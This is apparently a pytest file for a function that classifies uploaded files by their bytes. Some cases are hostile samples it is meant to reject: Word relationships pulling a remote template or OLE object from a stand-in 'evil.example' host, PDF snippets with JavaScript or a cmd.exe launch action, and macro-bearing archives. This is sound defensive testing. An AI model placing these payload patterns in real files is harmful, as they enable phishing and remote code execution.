"""A file is what its content says, whatever it is called."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from handlers.services.conversation.file_kinds import MOST_NAMES, kind_of


def archive(*names: str) -> bytes:
    """The same bytes at every call: they name the tests, which all workers must find the same."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for name in names:
            made.writestr(zipfile.ZipInfo(name), "x")
    return buffer.getvalue()


TYPES = "[Content_Types].xml"


def related(kind: str, target: str) -> bytes:
    """A document with one part elsewhere."""
    buffer = io.BytesIO(archive(TYPES, "word/document.xml"))
    with zipfile.ZipFile(buffer, "a") as made:
        schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        link = f'<Relationship Id="r1" Type="{schema}/{kind}" Target="{target}" TargetMode="External"/>'
        made.writestr(
            zipfile.ZipInfo("word/_rels/settings.xml.rels"), f"<Relationships>{link}</Relationships>"
        )
    return buffer.getvalue()


def listed(*parts: bytes | str) -> bytes:
    """A document with these lists of relationships."""
    buffer = io.BytesIO(archive(TYPES, "word/document.xml"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as made:
        for n, part in enumerate(parts):
            made.writestr(zipfile.ZipInfo(f"word/_rels/{n}.rels"), part, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


TEMPLATE = '<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/>'


def compound(*names: str) -> bytes:
    """The head and the directory of a compound file with these entries."""
    entries = [
        name.encode("utf-16-le").ljust(64, b"\0") + (2 * len(name) + 2).to_bytes(2, "little")
        for name in ("Root Entry", *names)
    ]
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + b"".join(
        entry.ljust(128, b"\0") for entry in entries
    )


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "jpg"),
        (b"\x89PNG\r\n\x1a\n\x00", "png"),
        (b"%PDF-1.7\n", "pdf"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00", "mp4"),
        (archive(TYPES, "word/document.xml"), "docx"),
        (archive(TYPES, "xl/workbook.xml"), "xlsx"),
        (archive("照片.jpg"), "zip"),
        (archive(TYPES, "xl/workbook.xml", "xl/vbaProject.bin"), ""),
        (archive(TYPES, "xl/workbook.xml", "xl/macrosheets/sheet1.xml"), ""),
        (archive(TYPES, "word/document.xml", "word/embeddings/x.exe"), ""),
        (archive(TYPES, "word/document.xml", "word/embeddings/oleObject1.bin"), "docx"),  # an equation
        (archive(TYPES, "word/document.xml", "META-INF/MANIFEST.MF", "x.class"), ""),
        (archive("a.EXE."), ""),
        (archive("说明.docx", "扫描/1.jpg"), "zip"),
        (related("attachedTemplate", "http://evil.example/x.dotm"), ""),
        (related("attachedTemplate", "file:///C:/Users/li/Normal.dotm"), "docx"),  # as Word writes it
        (related("oleObject", "\\\\evil.example\\x"), ""),
        (related("hyperlink", "https://www.example/"), "docx"),
        (related("hyperlink", "https://www.example/?a=/attachedTemplate"), "docx"),
        (related("frame", "&#104;ttp://evil.example/"), ""),
        (listed(f"<r>{TEMPLATE}</r>".replace('"a"', '"a>b"')), ""),
        (listed(f'<p:r xmlns:p="x">{TEMPLATE}</p:r>'.replace("<Rel", "<p:Rel")), ""),
        (listed(f'<?xml version="1.0" encoding="UTF-16"?><r>{TEMPLATE}</r>'.encode("utf-16")), ""),
        (listed('<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'), ""),
        (listed("<Relationship " * 9), ""),
        (listed(*["<r/>"] * 40), "docx"),
        (listed(*[f"<r>{' ' * 100_000}</r>"] * 40), ""),  # small each, and four megabytes together
        (archive(*(f"{n:01000}" for n in range(2500))), ""),  # a list of names that is longer than any
        (b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", ""),
        (b"%PDF-1.7\n<</S/J#61vaScript>>", ""),
        (b"%PDF-1.7\n<</S/Launch/F(cmd.exe)>>", ""),
        (b"%PDF-1.7\n<</Launcher 1/JSX 2>>", "pdf"),
        (archive(TYPES, "ppt/presentation.xml"), ""),
        (archive(*(f"{n}" for n in range(MOST_NAMES + 1))), ""),
        (archive("a.txt")[:-10], ""),  # half an archive
        (b"PK\x03\x04", ""),
        (b"GIF89a", ""),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", ""),
        (b"<!doctype html>", ""),
        (b"MZ\x90\x00", ""),
        (b"\x7fELF", ""),
        (compound("WordDocument"), "doc"),  # .wps is the same
        (compound("Workbook"), "xls"),  # and .et
        (compound("Book"), "xls"),
        (compound("PowerPoint Document"), ""),
        (compound("WordDocument", "_VBA_PROJECT"), ""),
        (compound("Workbook", "_VBA_PROJECT_CUR"), ""),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ""),  # half a file
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), ""),
        (b"Rar!\x1a\x07\x00", "rar"),
        (b"Rar!\x1a\x07\x01\x00", "rar"),
        (archive("OFD.xml", "Doc_0/Document.xml"), "ofd"),
        (b"plain words", ""),
        (b"", ""),
    ],
)
def test_by_content(tmp_path: Path, content: bytes, kind: str) -> None:
    file = tmp_path / "报告.pdf.exe.png"
    file.write_bytes(content)
    assert kind_of(file) == kind
